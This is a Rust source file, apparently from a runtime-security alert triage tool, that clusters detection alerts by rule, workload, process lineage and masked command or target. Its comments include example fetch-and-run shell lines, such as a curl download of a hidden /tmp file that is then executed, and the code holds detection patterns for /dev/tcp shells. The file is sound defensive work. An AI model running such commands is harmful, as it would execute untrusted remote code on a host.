//! Grouping alerts: a cluster is one behaviour: the same rule, workload, actor (the
//! executable, and for an interpreter its script), lineage shape (the roles of the
//! ancestors: `shell<service` is not `shell<login`), and target class, with incidental
//! values masked (digit runs, hashes, random names, temp directories, client ports).

use std::collections::BTreeMap;

use quell_events::FlatEvent;
use serde::Serialize;

use crate::evidence::{actor, in_drop_dir, role, shape, system_account, Role, DROP_DIRS};
use crate::input::{int, text, Alert, Record};

/// Fields that name what an alert acted on, most specific first.
pub const TARGET_FIELDS: &[&str] = &[
    "fd.name",
    "fs.path.name",
    "fs.path.source",
    "fs.path.target",
    "evt.arg.name",
    "evt.arg.path",
    "evt.arg.pathname",
];

/// Fields besides the lineage and the target that [`Signature::of`] reads: a sample alert
/// carries them so that it triages into the cluster it stands for.
pub const SIGNATURE_FIELDS: &[&str] = &[
    "container.image.repository",
    "container.image",
    "proc.pexepath",
    "proc.aexepath[2]",
    "proc.aexepath[3]",
    "proc.aexepath[4]",
    "proc.stdin_type",
    "proc.stdout_type",
    "proc.stderr_type",
    "proc.is_exe_from_memfd",
    "proc.is_exe_upper_layer",
    "container.id",
    "k8s.ns.name",
    "proc.exepath",
    "proc.name",
    "proc.pname",
    "proc.cmdline",
    "proc.pcmdline",
    "evt.type",
    "evt.arg.flags",
    "evt.is_open_write",
    "fd.sip.name",
    "fd.rip.name",
    "proc.tty",
    "user.name",
    "user.uid",
    "user.loginuid",
];

/// The stable signature of an alert.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct Signature {
    /// The rule.
    pub rule: String,
    /// `container.image.repository`, or `host`.
    pub workload: String,
    /// `proc.exepath` (or `proc.name` when the path is unknown).
    pub exe: String,
    /// Lineage: the shape (the roles of the ancestors, see [`crate::evidence::shape`]), one
    /// string such as `shell<login<init`, then `parent=NAME` (masked) when the parent is
    /// known.
    pub lineage: Vec<String>,
    /// The target (a file or connection), masked; or the masked command line for actions
    /// without a target.
    pub target: String,
}

impl Signature {
    /// The signature of an alert of `rule` on `ev`.
    pub fn of(rule: &str, ev: &FlatEvent) -> Signature {
        let mut workload = mask(&workload(ev));
        // Another namespace is another context (a near-attack's `kubectl exec` into
        // another team's pod): the namespace goes in when known.
        if let Some(ns) = text(ev, "k8s.ns.name").filter(|n| !n.is_empty()) {
            workload = format!("{workload} ns={}", mask(&ns));
        }
        let exepath = text(ev, "proc.exepath")
            .or_else(|| text(ev, "proc.name"))
            .unwrap_or_else(|| "?".into());
        // A build tool's generated binary (`/dev/shm/go-build…/b052/queue.test`) is one
        // actor whatever the package it tests: the glob over its generated directory and
        // any name with its extension (the same kind tune generalises by).
        let generated = crate::kinds::generated_binary(&exepath);
        // A system program is one actor whichever system directory holds it, and so is
        // the distribution's POSIX shell (the kinds tune widens by: `/usr/sbin/tcpdump`
        // and `/usr/bin/tcpdump`, `dash` and `bash` running one `sh -c` program).
        let mut exe = match &generated {
            Some(g) => mask_path(g),
            None => mask_path(&crate::kinds::exe_class(&exepath)),
        };
        // An interpreter is never the whole actor: its script goes in.
        if let Some(name) = text(ev, "proc.name") {
            if role(&name) == Role::Interpreter || role(&name) == Role::Shell {
                if let Some(script) = script_of(&text(ev, "proc.cmdline").unwrap_or_default()) {
                    exe = format!("{exe} {}", mask_path(&script));
                }
            }
        }
        // The shape, and the parent itself: `ssh` run by `git` is not `ssh` run by a shell.
        let mut lineage = vec![shape(ev)];
        // A runtime's exec entry is one parent whichever runtime the node runs.
        let parent = text(ev, "proc.pname").or_else(|| text(ev, "proc.aname[1]"));
        if let Some(p) = &parent {
            lineage.push(format!("parent={}", mask(crate::kinds::name_class(p))));
        }
        // Who started the parent's shell or program: the first ancestor above the parent
        // that is not a shell (a notebook kernel's `sh -c pip …` is not a web server's).
        if let Some((_, above, _)) = crate::evidence::lineage(ev)
            .into_iter()
            .find(|(level, name, _)| *level >= 2 && role(name) != Role::Shell)
        {
            lineage.push(format!("above={}", mask(crate::kinds::name_class(&above))));
        }
        // Who it runs as, by kind: root, a service account by name (a role), or a person
        // (whose name is incidental); and whether it has a terminal (a runtime's piped exec
        // is not an interactive shell).
        if let Some(u) = user_class(ev) {
            lineage.push(format!("user={u}"));
        }
        if int(ev, "proc.tty").is_some_and(|t| t != 0) {
            lineage.push("tty".into());
        }
        // Whether a person logged in behind it (a login uid, kept across sudo and su): an
        // admin's root shell is not a service's root child.
        match int(ev, "user.loginuid") {
            Some(0) => lineage.push("login=root".into()),
            Some(l) if (1..4_294_967_295).contains(&l) => lineage.push("login=person".into()),
            _ => {}
        }
        // How the session was entered and what the lineage holds that the verdict reads:
        // two alerts that differ here are two behaviours, whatever else they share.
        lineage.push(actor_class(ev));
        // The action: reading a key file is not writing it, emptying a log is not
        // removing it.
        if let Some(act) = action(ev) {
            lineage.push(format!("act={act}"));
        }
        // The parent's command line by kind: the same program run by `bash` at a terminal
        // and by `sh -c 'curl … | sh; …'` is not one behaviour.
        // (A parent with a class, a runtime's exec entry or one program under a
        // distribution's name, is one whichever it is: the class of each name goes in;
        // anything else its command line reaches stays.)
        let classed_parent = parent
            .as_deref()
            .is_some_and(|p| crate::kinds::name_class(p) != p);
        if let Some(pc) = text(ev, "proc.pcmdline") {
            // The program's own name by its class before masking (`apache2` is not
            // `apacheN` but the Apache web server).
            let pc = if classed_parent {
                let (program, rest) = pc.split_once(' ').unwrap_or((&pc, ""));
                let name = program.rsplit('/').next().unwrap_or(program);
                format!("{} {rest}", crate::kinds::name_class(name))
            } else {
                pc
            };
            let reach = command_reach(&pc);
            let reach = if classed_parent {
                reach
                    .split(' ')
                    .map(crate::kinds::name_class)
                    .collect::<Vec<_>>()
                    .join(" ")
            } else {
                reach
            };
            lineage.push(format!("pcmd={reach}"));
        }
        let command = text(ev, "proc.cmdline");
        let target = match target(ev) {
            Some((_, t)) => {
                // With a target, what the command that acted on it reaches goes in too:
                // the same file removed by `rm` and by `sh -c 'rm …; curl …'`, or by a tool
                // given a hidden temporary path, are two behaviours.
                if let Some(c) = &command {
                    lineage.push(format!("cmd={}", command_reach(c)));
                }
                if t.contains("->") {
                    let mut c = mask_connection(&t);
                    if let Some(server) = server_identity(ev, &t) {
                        c = format!("{c} {server}");
                    }
                    c
                } else {
                    fragment_read(mask_path(&t), ev)
                }
            }
            None => command
                .map(|c| {
                    let name = exepath.rsplit('/').next().unwrap_or_default();
                    generated
                        .as_ref()
                        .and_then(|_| crate::kinds::generated_command(&c, name))
                        .map_or_else(|| mask_command(&c), |g| mask_command(&g))
                })
                .unwrap_or_default(),
        };
        Signature {
            rule: rule.to_string(),
            workload,
            exe,
            lineage,
            target,
        }
    }

    /// A stable id: 12 hex digits of the FNV-1a hash of the signature.
    pub fn id(&self) -> String {
        self.id_for("")
    }

    /// The stable id of one part of a cluster split by verdict (`part` is the verdict).
    pub fn id_for(&self, part: &str) -> String {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        let mut feed = |s: &str| {
            for b in s.bytes().chain(std::iter::once(0x1f)) {
                h ^= u64::from(b);
                h = h.wrapping_mul(0x0100_0000_01b3);
            }
        };
        feed(&self.rule);
        feed(&self.workload);
        feed(&self.exe);
        for l in &self.lineage {
            feed(l);
        }
        feed(&self.target);
        if !part.is_empty() {
            feed(part);
        }
        format!("{:012x}", h >> 16)
    }
}

/// The facts of an alert's own lineage that triage's verdict reads, as one key: the
/// session's entry (`entry=login` for a login or terminal entry, `entry=runtime` for a
/// container runtime's `exec`, `entry=none`), then those present of a service in the
/// lineage (`service`), a service's shell (`service-shell`), a scheduler (`scheduler`), a
/// dropped executable (`dropped`), a network socket as a standard stream (`net-stdio`).
/// An operator's `kubectl exec` and a web server's shell doing the same thing differ here
/// even where the shape's few roles do not show it.
pub fn actor_class(ev: &FlatEvent) -> String {
    let a = actor(ev);
    let entry = if a.entry.is_some() {
        "login"
    } else if a.runtime.is_some() {
        "runtime"
    } else {
        "none"
    };
    let mut out = format!("entry={entry}");
    for (present, word) in [
        (a.service.is_some(), "service"),
        (a.service_shell.is_some(), "service-shell"),
        (a.scheduler.is_some(), "scheduler"),
        (a.dropped_exe.is_some(), "dropped"),
        (a.network_stdio.is_some(), "net-stdio"),
    ] {
        if present {
            out.push(' ');
            out.push_str(word);
        }
    }
    out
}

/// The action of an event by kind: the system call without its variant suffix
/// (`openat2` → `open`, `unlinkat` → `unlink`, `renameat2` → `rename`, `dup3` → `dup`),
/// and for an open its mode: `open-trunc`, `open-write` (write access or create) or
/// `open-read`. `None` when the event does not say.
pub fn action(ev: &FlatEvent) -> Option<String> {
    let ty = text(ev, "evt.type")?;
    let base = ty.trim_end_matches(|c: char| c.is_ascii_digit());
    let base = match base {
        "creat" => "open",
        "fchmodat" | "fchmod" => "chmod",
        "fchownat" | "fchown" | "lchown" => "chown",
        "openat" => "open",
        "unlinkat" => "unlink",
        "renameat" => "rename",
        "mkdirat" => "mkdir",
        "linkat" => "link",
        "symlinkat" => "symlink",
        "execveat" => "execve",
        b => b,
    };
    if base != "open" {
        return Some(mask(base));
    }
    let flags = text(ev, "evt.arg.flags").unwrap_or_default();
    let yes = |k: &str| {
        matches!(ev.get(k), Some(quell_rules::Value::Bool(true)))
            || text(ev, k).is_some_and(|v| v == "true")
    };
    let mode = if flags.contains("O_TRUNC") || ty == "creat" && flags.is_empty() {
        "trunc"
    } else if flags.contains("O_WRONLY")
        || flags.contains("O_RDWR")
        || flags.contains("O_CREAT")
        || yes("evt.is_open_write")
    {
        "write"
    } else {
        "read"
    };
    Some(format!("open-{mode}"))
}

/// The workload of an event: the image's repository (`container.image.repository`, or
/// `container.image` without its tag or digest), `host` on the host, and `container` for
/// a container whose image is unknown (never the host's).
pub fn workload(ev: &FlatEvent) -> String {
    if let Some(repo) = text(ev, "container.image.repository").filter(|r| !r.is_empty()) {
        return repo;
    }
    if let Some(image) = text(ev, "container.image").filter(|r| !r.is_empty()) {
        return image_repository(&image).to_string();
    }
    match text(ev, "container.id") {
        Some(c) if !c.is_empty() && c != "host" => "container".into(),
        _ => "host".into(),
    }
}

/// An image reference without its digest (`@sha256:...`) and tag (`:1.2`; a registry's
/// `:port` stays): `registry:5000/team/app:1.2@sha256:ab` → `registry:5000/team/app`.
pub fn image_repository(image: &str) -> &str {
    let image = image.split_once('@').map_or(image, |(r, _)| r);
    match image.rsplit_once(':') {
        Some((repo, tag)) if !tag.contains('/') => repo,
        _ => image,
    }
}

/// The first target field an event has, with its value.
pub fn target(ev: &FlatEvent) -> Option<(&'static str, String)> {
    TARGET_FIELDS
        .iter()
        .find_map(|k| text(ev, k).map(|v| (*k, v)))
}

/// The script or subcommand an interpreter or shell runs: its first argument that is not
/// an option (`python3 /opt/app/job.py` → `/opt/app/job.py`, `sh -c 'cmd ...'` → `cmd`).
pub fn script_of(cmdline: &str) -> Option<String> {
    let mut words = cmdline.split_whitespace().skip(1);
    while let Some(w) = words.next() {
        if w == "-c" {
            return words
                .next()
                .map(|c| c.trim_matches(|ch| ch == '"' || ch == '\'').to_string());
        }
        if w == "-m" {
            return words.next().map(str::to_string);
        }
        if w.starts_with('-') {
            continue;
        }
        return Some(w.to_string());
    }
    None
}

/// The user an event runs as, by kind: `root`, a service account by its name (a role:
/// `postgres`, `www-data`), or `person` (a login name is incidental); `None` when the
/// event does not say.
pub fn user_class(ev: &FlatEvent) -> Option<String> {
    if let Some(sys) = system_account(ev) {
        if crate::kinds::WEB_SERVER_ACCOUNTS.contains(&sys.as_str()) {
            return Some("web-server-account".into());
        }
        return Some(mask(&sys));
    }
    match (int(ev, "user.uid"), text(ev, "user.name")) {
        (Some(0), _) => Some("root".into()),
        (None, Some(n)) if n == "root" => Some("root".into()),
        (None, None) => None,
        _ => Some("person".into()),
    }
}

/// A command line with its values normalised by kind, so that repeated runs of one
/// behaviour read the same (`useradd -m carol` and `useradd -m dave`) while the command,
/// its options and the classes of its targets stay: the program's name; its first
/// argument when it is a plain word (a subcommand: `apt-get install`, `git push`);
/// options as written (an option's `=value` by kind); paths masked ([`mask_path`]);
/// addresses as their class (`private`, `public`, `loopback`) with the port; URLs as
/// scheme, host and masked path; quoted strings `S`; other words (user, package, unit
/// and group names, patterns) `W`. A shell's `-c` script is normalised command by command.
pub fn mask_command(cmdline: &str) -> String {
    mask_command_at(cmdline, 0)
}

/// How many `sh -c` scripts inside scripts are normalised; deeper ones are masked whole
/// (a hostile command line must not exhaust the stack).
const MAX_SCRIPT_DEPTH: usize = 8;

fn mask_command_at(cmdline: &str, depth: usize) -> String {
    if depth > MAX_SCRIPT_DEPTH {
        return mask(cmdline);
    }
    let toks = shell_tokens(cmdline);
    let mut out: Vec<String> = Vec::new();
    let mut pos = 0usize;
    let mut shell = false;
    let mut interpreter = false;
    let mut script_first = false;
    let mut i = 0;
    while i < toks.len() {
        let t = &toks[i];
        i += 1;
        if is_operator(t) {
            out.push(t.clone());
            pos = 0;
            shell = false;
            continue;
        }
        if pos == 0 {
            let name = t.rsplit('/').next().unwrap_or(t);
            shell = role(name) == Role::Shell;
            interpreter = role(name) == Role::Interpreter;
            out.push(mask(name));
            pos = 1;
            continue;
        }
        // A shell's script: the rest of the line (or one quoted word) is commands.
        if shell && t == "-c" {
            out.push("-c".into());
            let rest: Vec<String> = toks[i..].to_vec();
            let script = match rest.as_slice() {
                [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
                _ => rest.join(" "),
            };
            out.push(mask_command_at(&script, depth + 1));
            break;
        }
        // An interpreter's script takes the first place: its subcommand comes after it
        // (`python3 /usr/bin/pip install x`).
        let first = pos == 1 || (pos == 2 && script_first);
        if pos == 1 {
            script_first = interpreter && t.contains('/');
        }
        out.push(mask_arg(t, first));
        pos += 1;
    }
    out.join(" ")
}

/// What a command line runs and reaches, with its options and plain values left out: the
/// programs of its commands in order (a shell's `-c` script command by command), and for
/// its arguments only what points outside the behaviour's own files: an address or URL by
/// class (`public`, `private`, `loopback`, or the host name masked), a `/dev/tcp` or
/// `/dev/udp` redirection (`net-redirect`), a path in a temporary or shared-memory
/// directory (`drop`), a command substitution (`subst`). Runs of one tool with other
/// options or other files of its own (`--tags web`, `--profile monthly.prf`, `-U`) read
/// the same; a download, a chained command, a hidden temporary path do not
/// (`sh -c 'curl -o /tmp/.u http://203.0.113.7/p && /tmp/.u'` →
/// `sh -c curl drop http://public chmod drop:.u`). Each item appears once.
pub fn command_reach(cmdline: &str) -> String {
    let mut all = Vec::new();
    reach_at(cmdline, 0, &mut all);
    // What it runs and reaches, each once, in order of first appearance: a script that
    // runs `grep` twice and one that runs it once do the same kind of thing.
    let mut out: Vec<String> = Vec::new();
    for w in all {
        if !out.contains(&w) {
            out.push(w);
        }
    }
    out.join(" ")
}

fn reach_at(cmdline: &str, depth: usize, out: &mut Vec<String>) {
    if depth > MAX_SCRIPT_DEPTH {
        out.push("deep".into());
        return;
    }
    let toks = shell_tokens(cmdline);
    let mut pos = 0usize;
    let mut shell = false;
    let mut i = 0;
    while i < toks.len() {
        let t = &toks[i];
        i += 1;
        if is_operator(t) {
            pos = 0;
            continue;
        }
        if t.contains("$(") || t.contains('`') {
            out.push("subst".into());
        }
        let word = if is_quoted(t) {
            &t[1..t.len() - 1]
        } else {
            t.as_str()
        };
        if pos == 0 {
            let name = word.rsplit('/').next().unwrap_or(word);
            shell = role(name) == Role::Shell;
            out.push(if in_drop_dir(word) {
                format!("drop:{}", mask(name))
            } else {
                mask(name)
            });
            pos = 1;
            continue;
        }
        pos += 1;
        if shell && word == "-c" {
            out.push("-c".into());
            let rest: Vec<String> = toks[i..].to_vec();
            let script = match rest.as_slice() {
                [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
                _ => rest.join(" "),
            };
            reach_at(&script, depth + 1, out);
            return;
        }
        // An option's value: `--url=http://…`, `-o/tmp/x`.
        let value = word.split_once('=').map_or(word, |(_, v)| v);
        if let Some(r) = reach_of(value) {
            out.push(r);
        }
    }
}

/// What one argument reaches, if it points outside the behaviour's own files (see
/// [`command_reach`]).
fn reach_of(w: &str) -> Option<String> {
    let path =
        w.trim_start_matches(|c: char| c.is_ascii_digit() || c == '<' || c == '>' || c == '&');
    if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
        return Some("net-redirect".into());
    }
    if in_drop_dir(path) {
        return Some("drop".into());
    }
    if let Some((scheme, rest)) = w.split_once("://") {
        let host = rest.split('/').next().unwrap_or(rest);
        let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
        let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
        return Some(format!("{}://{}", mask(scheme), host_class(host)));
    }
    if let Some((_, rest)) = w.split_once('@') {
        let host = rest.split_once(':').map_or(rest, |(h, _)| h);
        return Some(format!("@{}", host_class(host)));
    }
    let host = w.rsplit_once(':').map_or(w, |(h, _)| h);
    ip_class(host).map(str::to_string)
}

/// One argument of a command, by kind (see [`mask_command`]).
fn mask_arg(t: &str, first: bool) -> String {
    if is_quoted(t) {
        return "S".into();
    }
    if let Some(opt) = t.strip_prefix('-') {
        return match opt.split_once('=') {
            Some((k, v)) => format!("-{}={}", mask(k), mask_arg(v, false)),
            None => format!("-{}", mask(opt)),
        };
    }
    // Redirections: `>/dev/null`, `2>&1`, `</dev/tcp/host/port`.
    if let Some(p) = t.find(['<', '>']) {
        let (op, rest) = t.split_at(p + 1);
        return format!("{}{}", mask(op), mask_path(rest));
    }
    if let Some((scheme, rest)) = t.split_once("://") {
        let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
        let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
        let path = if path.is_empty() {
            String::new()
        } else {
            mask_path(&format!("/{path}"))
        };
        return format!("{}://{}{path}", mask(scheme), host_class(host));
    }
    // `user@host:path` (scp, rsync, ssh) and `host:path`.
    if let Some((who, rest)) = t.split_once('@') {
        let (host, path) = rest.split_once(':').unwrap_or((rest, ""));
        let path = if path.is_empty() {
            String::new()
        } else {
            format!(":{}", mask_path(path))
        };
        let who = if who.is_empty() { "" } else { "W" };
        return format!("{who}@{}{path}", host_class(host));
    }
    if ip_class(t.rsplit_once(':').map_or(t, |(h, _)| h)).is_some() {
        return host_class(t);
    }
    if t.contains('/') {
        return mask_path(t);
    }
    let plain = !t.is_empty()
        && t.chars()
            .all(|c| c.is_ascii_lowercase() || c == '-' || c == '_')
        && t.chars().next().is_some_and(|c| c.is_ascii_lowercase());
    if first && plain {
        return t.to_string();
    }
    // The superuser named as an argument (`usermod -a -G wheel root`, `crontab -u root`) is
    // not an incidental value: the same command on root is another behaviour.
    if t == "root" {
        return t.to_string();
    }
    if t.chars().any(|c| c.is_alphanumeric()) {
        "W".into()
    } else {
        t.to_string()
    }
}

/// A host (with an optional `:port`) as its address class and port; a name is kept
/// masked (a server's name is what it is).
fn host_class(h: &str) -> String {
    let (host, port) = match h.rsplit_once(':') {
        Some((a, p)) if !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()) => (a, Some(p)),
        _ => (h, None),
    };
    let host = host.trim_matches(|c| c == '[' || c == ']');
    let class = ip_class(host).map_or_else(|| mask(host), str::to_string);
    match port {
        Some(p) => format!("{class}:{p}"),
        None => class,
    }
}

/// The class of an IP address: `loopback`, `private` or `public`; `None` for a name.
fn ip_class(host: &str) -> Option<&'static str> {
    let host = host.trim_matches(|c| c == '[' || c == ']');
    Some(match host.parse::<std::net::IpAddr>().ok()? {
        ip if ip.is_loopback() => "loopback",
        std::net::IpAddr::V4(v) if v.is_private() || v.is_link_local() => "private",
        std::net::IpAddr::V6(v) if (v.segments()[0] & 0xfe00) == 0xfc00 => "private",
        _ => "public",
    })
}

fn is_quoted(t: &str) -> bool {
    t.len() >= 2
        && ((t.starts_with('\'') && t.ends_with('\'')) || (t.starts_with('"') && t.ends_with('"')))
}

fn is_operator(t: &str) -> bool {
    matches!(t, ";" | "|" | "||" | "&&" | "&")
}

/// Splits a command line into words, keeping quoted strings whole (quotes included) and
/// making `;`, `|`, `||`, `&&` and a lone `&` words of their own.
fn shell_tokens(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut chars = s.chars().peekable();
    let flush = |cur: &mut String, out: &mut Vec<String>| {
        if !cur.is_empty() {
            out.push(std::mem::take(cur));
        }
    };
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            cur.push(c);
            if c == q {
                quote = None;
            }
            continue;
        }
        match c {
            '\'' | '"' if cur.is_empty() => {
                quote = Some(c);
                cur.push(c);
            }
            c if c.is_whitespace() => flush(&mut cur, &mut out),
            ';' => {
                flush(&mut cur, &mut out);
                out.push(";".into());
            }
            '|' | '&' => {
                // `2>&1` and `&>` stay in their word.
                if c == '&' && (cur.ends_with('>') || chars.peek() == Some(&'>')) {
                    cur.push(c);
                    continue;
                }
                flush(&mut cur, &mut out);
                let mut op = c.to_string();
                if chars.peek() == Some(&c) {
                    chars.next();
                    op.push(c);
                }
                out.push(op);
            }
            _ => cur.push(c),
        }
    }
    flush(&mut cur, &mut out);
    out
}

/// Masks a path or command line like [`mask`], and also the name of a directory made
/// directly in a temporary directory (`/tmp/tmpk3j_2x8q/`, `/tmp/go-build123/`): `T`.
///
/// A user's home directory is `/home/U/` (the name is incidental; `/root/` stays), and in
/// the file's own name digit runs and hashes after a separator are dropped (dates,
/// sequence and segment numbers: `lynis-20261205.log` → `lynis.log`) except a rotation
/// number at the end, which stays `.N` whatever its compression (`dpkg.log.1` and
/// `dpkg.log.2.gz` → `dpkg.log.N`).
pub fn mask_path(s: &str) -> String {
    let mut out = mask(s);
    out = mask_home(&out);
    if !out.contains(' ') {
        let cut = out.rfind('/').map_or(0, |i| i + 1);
        let base = mask_basename(&out[cut..]);
        out.replace_range(cut.., &base);
    }
    for d in DROP_DIRS.iter().filter(|d| d.ends_with('/')) {
        let mut from = 0;
        while let Some(pos) = out[from..].find(d) {
            let start = from + pos + d.len();
            let end = out[start..].find('/').map(|e| start + e);
            match end {
                Some(end) if end > start => {
                    let comp = &out[start..end];
                    let random = comp.contains('N')
                        || comp.contains('X')
                        || comp.contains('H')
                        || comp.starts_with("tmp");
                    if random && comp != "T" {
                        out.replace_range(start..end, "T");
                    }
                    from = start + 1;
                }
                _ => break,
            }
            if from >= out.len() {
                break;
            }
        }
    }
    out
}

/// A file only read from a directory of configuration fragments (its parent named `*.d`:
/// `/etc/sudoers.d/`, `/etc/pam.d/`, `/etc/cron.d/`) counts as one fragment of that
/// configuration, `DIR/*`: a reader going through them (a backup, an integrity agent, an
/// audit) reads each, and which one is incidental. A write keeps its name (which fragment
/// is written is the act), and so does a hidden name (not how packages name fragments).
fn fragment_read(masked: String, ev: &FlatEvent) -> String {
    let Some((dir, base)) = masked.rsplit_once('/') else {
        return masked;
    };
    let fragments = dir
        .rsplit('/')
        .next()
        .is_some_and(|d| d.len() > 2 && d.ends_with(".d"));
    if fragments && !base.is_empty() && !base.starts_with('.') && crate::triage::reads_only(ev) {
        format!("{dir}/*")
    } else {
        masked
    }
}

/// `/home/NAME/` → `/home/U/` wherever it appears.
fn mask_home(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find("/home/") {
        let (head, tail) = rest.split_at(p + "/home/".len());
        out.push_str(head);
        let end = tail
            .find(|c: char| c == '/' || c.is_whitespace())
            .unwrap_or(tail.len());
        if end > 0 {
            out.push('U');
        }
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

const COMPRESSED: &[&str] = &["gz", "bz2", "xz", "zst", "Z", "lz4"];

/// A masked file name with its incidental numbers dropped (see [`mask_path`]).
fn mask_basename(base: &str) -> String {
    // Words and the separators before them: `dpkg` `.log` `.N` `.gz`.
    let mut parts: Vec<(Option<char>, &str)> = Vec::new();
    let mut start = 0;
    let mut sep = None;
    for (i, c) in base.char_indices() {
        if matches!(c, '.' | '-' | '_') {
            parts.push((sep, &base[start..i]));
            sep = Some(c);
            start = i + 1;
        }
    }
    parts.push((sep, &base[start..]));
    let numeric = |w: &str| w == "N" || w == "H";
    // `.N.gz` at the end: the rotation number, whatever the compression.
    if parts.len() >= 3 {
        let n = parts.len();
        if parts[n - 1].0 == Some('.')
            && COMPRESSED.contains(&parts[n - 1].1)
            && parts[n - 2].0 == Some('.')
            && numeric(parts[n - 2].1)
        {
            parts.pop();
        }
    }
    let n = parts.len();
    let mut out = String::with_capacity(base.len());
    for (i, (sep, w)) in parts.iter().enumerate() {
        let rotation = i == n - 1 && *sep == Some('.') && numeric(w);
        if i > 0 && numeric(w) && !rotation {
            continue;
        }
        if let Some(c) = sep {
            out.push(*c);
        }
        out.push_str(if rotation { "N" } else { w });
    }
    if out.is_empty() {
        base.to_string()
    } else {
        out
    }
}

/// Which server a connection reaches, beyond its address class: the server's name when
/// the event has one (its last two labels, masked: `ssh.github.com` → `github.com`), else
/// for a public address its network (`203.0.113.0/24`, an IPv6 `/48`): a backup server
/// and an attacker's host on the same port are two behaviours. `None` for a private or
/// loopback address without a name (the site's own servers: their class and port say it).
pub fn server_identity(ev: &FlatEvent, conn: &str) -> Option<String> {
    let name = ["fd.sip.name", "fd.rip.name"]
        .iter()
        .find_map(|k| text(ev, k))
        .filter(|n| n.contains('.') && n.parse::<std::net::IpAddr>().is_err());
    if let Some(n) = name {
        let labels: Vec<&str> = n.trim_end_matches('.').rsplit('.').take(2).collect();
        let short: Vec<&str> = labels.into_iter().rev().collect();
        return Some(mask(&short.join(".")).to_ascii_lowercase());
    }
    let remote = conn.split_once("->").map_or(conn, |(_, r)| r);
    let host = remote.rsplit_once(':').map_or(remote, |(h, _)| h);
    let host = host.trim_matches(|c| c == '[' || c == ']');
    match host.parse::<std::net::IpAddr>().ok()? {
        ip if ip_class(&ip.to_string()) != Some("public") => None,
        std::net::IpAddr::V4(v) => {
            let o = v.octets();
            Some(format!("{}.{}.{}.0/24", o[0], o[1], o[2]))
        }
        std::net::IpAddr::V6(v) => {
            let g = v.segments();
            Some(format!("{:x}:{:x}:{:x}::/48", g[0], g[1], g[2]))
        }
    }
}

/// Masks a connection (`client:port->server:port`): the client side and the server's
/// address are dropped, the server's port and address class kept (`->private:5432`).
pub fn mask_connection(s: &str) -> String {
    let remote = s.split_once("->").map_or(s, |(_, r)| r);
    let (host, port) = remote.rsplit_once(':').unwrap_or((remote, "?"));
    let host = host.trim_matches(|c| c == '[' || c == ']');
    let class = match host.parse::<std::net::IpAddr>() {
        Ok(ip) if ip.is_loopback() => "loopback",
        Ok(std::net::IpAddr::V4(v)) if v.is_private() || v.is_link_local() => "private",
        Ok(std::net::IpAddr::V6(v)) if (v.segments()[0] & 0xfe00) == 0xfc00 => "private",
        Ok(_) => "public",
        Err(_) => "name",
    };
    format!("->{class}:{port}")
}

/// Masks the variable parts of a path or command line: digit runs become `N`, hex ids
/// (8+ hex digits with a digit) `H`, random-looking names (6+ letters and digits mixed) `X`.
pub fn mask(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut token = String::new();
    let flush = |token: &mut String, out: &mut String| {
        if !token.is_empty() {
            out.push_str(&mask_token(token));
            token.clear();
        }
    };
    for c in s.chars() {
        if c.is_ascii_alphanumeric() {
            token.push(c);
        } else {
            flush(&mut token, &mut out);
            out.push(c);
        }
    }
    flush(&mut token, &mut out);
    out
}

fn mask_token(t: &str) -> String {
    let digits = t.chars().filter(char::is_ascii_digit).count();
    let letters = t.len() - digits;
    // A long run of digits is an id like a hash (a WAL segment, a timestamp, a date).
    if digits == t.len() {
        return if t.len() >= 8 { "H" } else { "N" }.into();
    }
    if t.len() >= 8 && digits > 0 && t.chars().all(|c| c.is_ascii_hexdigit()) {
        return "H".into();
    }
    // Letters then a digit suffix (`tty3`, `worker12`, `python3`): keep the stem.
    let stem = t.trim_end_matches(|c: char| c.is_ascii_digit());
    if stem.len() < t.len() && stem.chars().all(|c| c.is_ascii_alphabetic()) {
        return format!("{stem}N");
    }
    if t.len() >= 6 && digits > 0 && letters > 0 {
        return "X".into();
    }
    // A generated suffix (a pod's `x2x9k`): five lower-case letters and digits mixed.
    if t.len() == 5
        && digits > 0
        && t.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
    {
        return "X".into();
    }
    t.to_string()
}

/// A group of alerts with one signature.
#[derive(Clone, Debug)]
pub struct Cluster {
    /// Its stable id.
    pub id: String,
    /// Its signature.
    pub signature: Signature,
    /// Indices of its alerts' records, in input order.
    pub members: Vec<usize>,
}

/// Groups alerts into clusters, in order of first appearance.
pub fn cluster(alerts: &[Alert], records: &[Record]) -> Vec<Cluster> {
    let mut index: BTreeMap<Signature, usize> = BTreeMap::new();
    let mut out: Vec<Cluster> = Vec::new();
    for a in alerts {
        let Some(r) = records.get(a.index) else {
            continue;
        };
        let sig = Signature::of(&a.rule, &r.event);
        match index.get(&sig) {
            Some(&i) => out[i].members.push(a.index),
            None => {
                index.insert(sig.clone(), out.len());
                out.push(Cluster {
                    id: sig.id(),
                    signature: sig,
                    members: vec![a.index],
                });
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::parse_records;

    #[test]
    fn masking() {
        assert_eq!(mask("/var/log/dpkg.log"), "/var/log/dpkg.log");
        assert_eq!(mask("/var/log/app.2.log"), "/var/log/app.N.log");
        assert_eq!(mask("/tmp/tmp.a8Zk3Qp1/x"), "/tmp/tmp.X/x");
        assert_eq!(
            mask("/var/lib/docker/0123abcdef456789/log"),
            "/var/lib/docker/H/log"
        );
        assert_eq!(mask("/dev/pts3"), "/dev/ptsN");
        assert_eq!(mask(""), "");
        assert_eq!(mask("日本語/1"), "日本語/N");
    }

    #[test]
    fn clusters_by_signature() {
        let text = [
